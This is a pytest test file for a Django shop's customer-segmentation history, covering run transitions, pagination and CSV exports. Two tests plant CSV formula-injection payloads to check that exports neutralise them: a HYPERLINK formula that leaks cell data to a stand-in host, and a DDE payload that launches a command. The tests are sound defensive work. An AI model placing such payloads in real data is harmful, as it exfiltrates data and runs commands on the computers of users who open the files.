"""Segment history: every run kept by calc_date, transitions between runs, CSV exports that are safe."""
from __future__ import annotations

import copy
import csv
import io

import pandas as pd
import pytest

from backend_django.shop.generator import write_shop
from ml_predictions.exports import safe_cell, safe_row
from ml_predictions.models import CustomerSegmentAssignment, CustomerSegmentHistory, MLModel
from tests.conftest import small_shop_data
from tests.helpers import assert_error
from tests.shared import build_shared, use_shared_artifacts

pytestmark = pytest.mark.django_db
URL = "/api/ml/segments/transitions/"


def _train(client, **body):
    res = client.post("/api/ml/train-customer-segmentation/", {"n_clusters": 6, **body}, format="json")
    assert res.status_code == 200, res.content[:500]
    return res.json()


@pytest.fixture(scope="class")
def segmentation_runs(django_db_setup, django_db_blocker, tmp_path_factory):
    """The small shop written and segmented twice (calc dates 2026-03-01 and the day after the last
    order), once for the class below."""
    def build(client):
        shop = small_shop_data()
        write_shop(shop)
        first = _train(client, calc_date="2026-03-01")
        second = _train(client)
        return shop, (first, second)

    with build_shared(django_db_blocker, tmp_path_factory.mktemp("segment_history"), build) as shared:
        yield shared


def _expected(first_id: str, second_id: str, by: str = "segment_type") -> tuple[pd.Series, pd.DataFrame]:
    rows = pd.DataFrame(list(CustomerSegmentHistory.objects.values("run_id", "customer_id", by, "segment_type")))
    rows["run_id"] = rows["run_id"].astype(str)
    a = rows[rows["run_id"] == first_id].set_index("customer_id")
    b = rows[rows["run_id"] == second_id].set_index("customer_id")
    both = a.merge(b, left_index=True, right_index=True, how="outer", suffixes=("_a", "_b"))
    key_a, key_b = (f"{by}_a", f"{by}_b") if by != "segment_type" else ("segment_type_a", "segment_type_b")
    counts = both.groupby([key_a, key_b], dropna=False).size()
    moved = both[both["segment_type_a"].isin(["vip", "frequent"]) & both["segment_type_b"].isin(["at_risk", "inactive"])]
    return counts, moved


def test_transitions_need_two_runs(small_shop, staff_client):
    assert_error(staff_client.get(URL), 422, "two stored")
    _train(staff_client)
    assert_error(staff_client.get(URL), 422, "two stored")


def test_a_segment_of_an_earlier_run_answers_404_naming_the_current_segments(small_shop, staff_client):
    first = _train(staff_client)
    second = _train(staff_client, n_clusters=2)
    gone = sorted(set(first["metrics"]["cluster_names"].values()) - set(second["metrics"]["cluster_names"].values()))
    assert gone
    res = staff_client.get(f"/api/ml/segments/{gone[0]}/export/")
    assert_error(res, 404, gone[0], *second["metrics"]["cluster_names"].values())


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), (-5.0, -5.0), (None, None), ("", ""),
])
def test_safe_cell_follows_the_owasp_rule(value, expected):
    assert safe_cell(value) == expected
    assert safe_row([value, 1]) == [expected, 1]


class TestTwoSegmentationRuns:
    """Read-only tests of two stored segmentation runs of the small shop, trained once."""

    @pytest.fixture
    def small_shop(self, segmentation_runs, db):
        return segmentation_runs.value[0]

    @pytest.fixture
    def two_runs(self, segmentation_runs, db, settings):
        use_shared_artifacts(segmentation_runs, settings)
        return copy.deepcopy(segmentation_runs.value[1])

    def test_every_run_is_kept_in_the_history(self, two_runs):
        first, second = two_runs
        for run in (first, second):
            n = CustomerSegmentHistory.objects.filter(run_id=run["model_id"]).count()
            assert n == run["metrics"]["n_customers"] == CustomerSegmentAssignment.objects.filter(
                model_id=run["model_id"]).count()
        dates = set(CustomerSegmentHistory.objects.values_list("calc_date", flat=True).distinct())
        assert {d.isoformat() for d in dates} == {"2026-03-01", "2026-07-01"}


    def test_transitions_default_to_the_last_two_runs(self, two_runs, staff_client):
        first, second = two_runs
        res = staff_client.get(URL)
        assert res.status_code == 200, res.content[:300]
        body = res.json()
        assert body["from_run"]["model_id"] == first["model_id"] and body["from_run"]["calc_date"] == "2026-03-01"
        assert body["to_run"]["model_id"] == second["model_id"] and body["to_run"]["version"] == 2
        counts, moved = _expected(first["model_id"], second["model_id"])
        got = {(c["from"], c["to"]): c["customers"] for c in body["matrix"]}
        want = {(None if pd.isna(f) else f, None if pd.isna(t) else t): int(n) for (f, t), n in counts.items()}
        assert got == want
        assert sum(got.values()) == len(set(CustomerSegmentHistory.objects.values_list("customer_id", flat=True)))
        assert any(f is None for f, _ in got)  # customers who joined between March and July are "new"
        for cell in body["matrix"]:
            if cell["from"] is not None:
                assert cell["share_of_from"] == pytest.approx(cell["customers"] / body["from_run"]["segments"][cell["from"]],
                                                              abs=1e-4)
        assert body["count"] == len(moved) > 0
        assert {r["customer_id"] for r in body["results"]} <= set(moved.index)
        assert all(r["from_segment_type"] in ("vip", "frequent") and r["to_segment_type"] in ("at_risk", "inactive")
                   for r in body["results"])
        clvs = [r["from_clv"] for r in body["results"]]
        assert clvs == sorted(clvs, reverse=True)  # the most valuable first


    def test_transitions_paginate_group_by_name_and_pick_runs_by_date(self, two_runs, staff_client):
        first, second = two_runs
        full = staff_client.get(URL).json()
        page = staff_client.get(URL, {"page_size": 1, "page": 2}).json()
        assert len(page["results"]) == 1 and page["results"][0] == full["results"][1] and page["previous"]
        named = staff_client.get(URL, {"by": "cluster_name", "from_calc_date": "2026-03-01",
                                       "to_calc_date": "2026-07-01"}).json()
        counts, _ = _expected(first["model_id"], second["model_id"], by="cluster_name")
        assert sum(c["customers"] for c in named["matrix"]) == int(counts.sum())
        assert set(named["to_run"]["segments"]) == set(second["metrics"]["cluster_names"].values())
        backwards = staff_client.get(URL, {"from_calc_date": "2026-07-01", "to_calc_date": "2026-03-01"}).json()
        assert backwards["from_run"]["calc_date"] == "2026-07-01"
        assert_error(staff_client.get(URL, {"by": "colour"}), 400, "by")
        assert_error(staff_client.get(URL, {"to_calc_date": "2025-01-01"}), 404, "2026-03-01", "2026-07-01")
        assert_error(staff_client.get(URL, {"to_calc_date": "2026-03-01"}), 422, "before")


    def test_history_outlives_a_pruned_version(self, two_runs, staff_client):
        first, _ = two_runs
        MLModel.objects.filter(pk=first["model_id"]).delete()
        assert not CustomerSegmentAssignment.objects.filter(model_id=first["model_id"]).exists()
        res = staff_client.get(URL)
        assert res.status_code == 200 and res.json()["from_run"]["model_id"] == first["model_id"]


    def test_transitions_export_is_the_moved_list_with_formula_cells_neutralised(self, two_runs, staff_client):
        first, second = two_runs
        evil = "=HYPERLINK(\"http://x/?\"&A1)"
        for run, seg_type in ((first, "vip"), (second, "at_risk")):
            CustomerSegmentHistory.objects.create(run_id=run["model_id"], run_version=run["version"],
                                                  calc_date="2026-03-01" if run is first else "2026-07-01",
                                                  customer_id=evil, cluster=0, cluster_name=seg_type,
                                                  segment_type=seg_type, monetary=1e9, clv=1e9)
        res = staff_client.get(URL + "export/")
        assert res.status_code == 200 and res["Content-Type"].startswith("text/csv")
        assert "segment_transitions_2026-03-01_2026-07-01.csv" in res["Content-Disposition"]
        rows = list(csv.reader(io.StringIO(b"".join(res.streaming_content).decode())))
        assert rows[0][:3] == ["customer_id", "from_segment", "to_segment"]
        assert len(rows) - 1 == staff_client.get(URL).json()["count"]
        assert rows[1][0] == "'" + evil  # highest previous CLV first, and not a formula any more


    def test_segment_export_neutralises_formula_cells(self, two_runs, staff_client):
        _, second = two_runs
        row = CustomerSegmentAssignment.objects.filter(model_id=second["model_id"], segment_type="vip").first()
        CustomerSegmentAssignment.objects.filter(pk=row.pk).update(customer_id="@SUM(1+1)*cmd|' /C calc'!A0")
        res = staff_client.get(f"/api/ml/segments/{row.cluster_name}/export/")
        text = b"".join(res.streaming_content).decode()
        assert "'@SUM(1+1)" in text and "\n@SUM" not in text
